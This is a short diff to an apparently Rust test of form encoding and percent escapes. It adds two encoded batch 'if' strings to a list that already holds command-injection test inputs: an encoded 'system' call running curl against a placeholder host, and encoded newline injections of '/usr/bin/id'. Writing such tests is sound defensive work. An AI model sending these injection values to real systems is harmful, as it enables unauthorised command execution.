@@ -1289,6 +1289,8 @@ fn form_encoding_and_references_to_percent_escapes() {
     for v in [
         "system%28%27curl+https%3A%2F%2Fa.example%2Fx.txt%27%29%3B",
         "IF++++%25ERRORLEVEL%25+GEQ+2+++echo+test",
+        "if+%2Fi+a%3D%3Db+foo",
+        "IF+%2FI+NOT+item1%3D%3Ditem2+++CMD",
         "&#37;0A&#47;usr&#47;bin&#47;id&#37;0A",
         "&#37;0a id &#37;0a",
     ] {
